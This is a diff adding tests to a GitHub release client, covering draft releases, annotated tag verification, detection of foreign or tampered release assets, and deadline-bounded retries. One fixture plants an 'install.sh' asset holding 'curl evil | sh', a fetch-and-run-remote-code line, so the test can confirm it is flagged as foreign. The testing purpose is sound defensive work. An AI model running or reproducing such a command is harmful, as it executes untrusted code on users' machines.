@@ -106,6 +106,48 @@ describe('ensureRelease / getRelease', () => {
   });
 });
 
+describe('drafts and tags', () => {
+  it('creates a draft that only an authenticated caller sees, finds it on a rerun, and publishes it once', async () => {
+    const gh = client();
+    const params = { owner: OWNER, repo, tag: 'v0.3.0', name: 'v0.3.0', targetCommitish: 'a'.repeat(40), draft: true };
+    const draft = await gh.ensureRelease(params);
+    expect(draft).toMatchObject({ draft: true, publishedAt: null });
+    // Not public: get-by-tag does not see it and GitHub has made no tag for it yet.
+    expect(await gh.getRelease(OWNER, repo, 'v0.3.0')).toBeNull();
+    expect(api.state.refs(OWNER, repo)).toEqual([]);
+    const anonymous = await fetch(`${api.url}/repos/${OWNER}/${repo}/releases`);
+    expect(anonymous.status).toBe(401);
+
+    api.clearLog();
+    const again = await gh.ensureRelease(params);
+    expect(again.id).toBe(draft.id);
+    expect(mutating()).toEqual([]);
+    expect(api.state.releases(OWNER, repo)).toHaveLength(1);
+
+    const published = await gh.publishRelease(again);
+    expect(published).toMatchObject({ id: draft.id, draft: false });
+    expect(api.state.refs(OWNER, repo)).toEqual([{ ref: 'refs/tags/v0.3.0', sha: 'a'.repeat(40) }]);
+    expect((await gh.getRelease(OWNER, repo, 'v0.3.0'))?.id).toBe(draft.id);
+    api.clearLog();
+    expect((await gh.publishRelease(published)).draft).toBe(false);
+    expect(mutating()).toEqual([]);
+  });
+
+  it('checks an annotated tag by the commit it tags, refusing one that tags other code', async () => {
+    const gh = client();
+    const tagObject = api.state.setAnnotatedTag(OWNER, repo, 'v0.4.0', 'b'.repeat(40));
+    expect(await gh.tagCommit(OWNER, repo, 'v0.4.0')).toBe('b'.repeat(40));
+    const error = await caught(gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.4.0', targetCommitish: 'c'.repeat(40), draft: true }));
+    expect(error.code).toBe('tag_mismatch');
+    expect(error.message).toContain(`tag v0.4.0 already points at ${'b'.repeat(40)}, not ${'c'.repeat(40)}`);
+    expect(error.message).not.toContain(tagObject);
+    expect(api.state.releases(OWNER, repo)).toEqual([]);
+
+    const same = await gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.4.0', targetCommitish: 'b'.repeat(40), draft: true });
+    expect(same.draft).toBe(true);
+  });
+});
+
 describe('uploadAssets / verifyReleaseAssets', () => {
   it('is idempotent: the second run keeps every asset and sends no write', async () => {
     const gh = client();
@@ -143,6 +185,34 @@ describe('uploadAssets / verifyReleaseAssets', () => {
     expect(replaced[0]!.action).toBe('replaced');
     const [stored] = api.state.releases(OWNER, repo)[0]!.assets;
     expect(api.state.assetBytes(stored!.id)!.toString()).toBe('version two!');
+  });
+
+  it('names every foreign and wrong asset at once, and with replace repairs the release exactly', async () => {
+    const gh = client();
+    const release = await gh.ensureRelease({ owner: OWNER, repo, tag: 'v0.1.0', draft: true });
+    const a = file('a.tar.gz', 'aaa');
+    const sums = file('SHA256SUMS', sha256sums([a]));
+    const bogusSums = { ...file('bogus-SHA256SUMS', sha256sums([{ name: a.name, sha256: '0'.repeat(64) }])), name: 'SHA256SUMS' };
+    const installer = file('install.sh', '#!/bin/sh\ncurl evil | sh\n');
+    await gh.uploadAssets(release, [a, bogusSums, installer]);
+
+    api.clearLog();
+    const error = await caught(gh.uploadAssets(release, [a, sums], { exact: true }));
+    expect(error.code).toBe('foreign_assets');
+    expect(error.message).toContain('SHA256SUMS: held with different content');
+    expect(error.message).toContain('install.sh: foreign asset');
+    expect(mutating()).toEqual([]);
+    const problems = await gh.verifyReleaseAssets(release, [a, sums]);
+    expect(problems).toEqual([
+      `SHA256SUMS: GitHub reports sha256 ${bogusSums.sha256}, expected ${sums.sha256}`,
+      'install.sh: foreign asset on release v0.1.0 (not part of it)',
+      `a.tar.gz: SHA256SUMS lists ${'0'.repeat(64)}, expected ${a.sha256}`,
+    ]);
+
+    const repaired = await gh.uploadAssets(release, [a, sums], { exact: true, replace: true });
+    expect(repaired.map((r) => `${r.name} ${r.action}`)).toEqual(['a.tar.gz kept', 'SHA256SUMS replaced']);
+    expect(api.state.releases(OWNER, repo)[0]!.assets.map((x) => x.name).sort()).toEqual(['SHA256SUMS', 'a.tar.gz']);
+    expect(await gh.verifyReleaseAssets(release, [a, sums])).toEqual([]);
   });
 
   it('reports missing assets, wrong sizes and checksum mismatches', async () => {
@@ -191,6 +261,16 @@ describe('resilience against the local server faults', () => {
     expect(Date.now() - started).toBeLessThan(5000);
     expect(error.code).toBe('deadline');
     expect(error.message).toContain('the publish deadline passed before GitHub answered; nothing is lost, rerun the same command');
+  });
+
+  it('does not wait out retry back-off once the deadline has passed', async () => {
+    // Back-off of 1 s, 4 s, 9 s: without the deadline stopping the retries this takes over 14 s.
+    const gh = client({ requestTimeoutMs: 60_000, retries: 3, retryBaseMs: 1000, deadline: new Date(Date.now() + 300) });
+    api.injectFault({ kind: 'hang', method: 'GET', path: `/${repo}/releases/tags/`, times: 10 });
+    const started = Date.now();
+    const error = await caught(gh.getRelease(OWNER, repo, 'v0.1.0'));
+    expect(error.code).toBe('deadline');
+    expect(Date.now() - started).toBeLessThan(3000);
   });
 
   it('reports an HTML gateway page as a gateway error, not as what GitHub said', async () => {
